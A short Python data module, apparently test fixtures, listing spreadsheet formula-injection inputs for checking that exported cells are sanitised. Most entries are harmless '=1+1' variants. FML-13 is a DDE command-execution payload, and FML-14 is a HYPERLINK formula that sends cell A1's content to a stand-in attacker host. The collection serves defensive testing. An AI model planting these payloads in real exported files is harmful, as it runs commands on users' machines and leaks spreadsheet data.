"""Text that a spreadsheet would run if it were let (the FML rows of the collection of bad inputs)."""

FORMULAS = {
    "FML-01": "=1+1",
    "FML-02": "+1+1",
    "FML-03": "-1+1",
    "FML-04": "@SUM(1)",
    "FML-05": "\t=1+1",
    "FML-06": "\r=1+1",
    "FML-07": "\n=1+1",
    "FML-08": "\x00=1+1",
    "FML-10": " =1+1",
    "FML-12": 'a","=1+1',
    "FML-13": "=cmd|' /C calc'!A0",
    "FML-14": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "FML-17": "-5000",
}
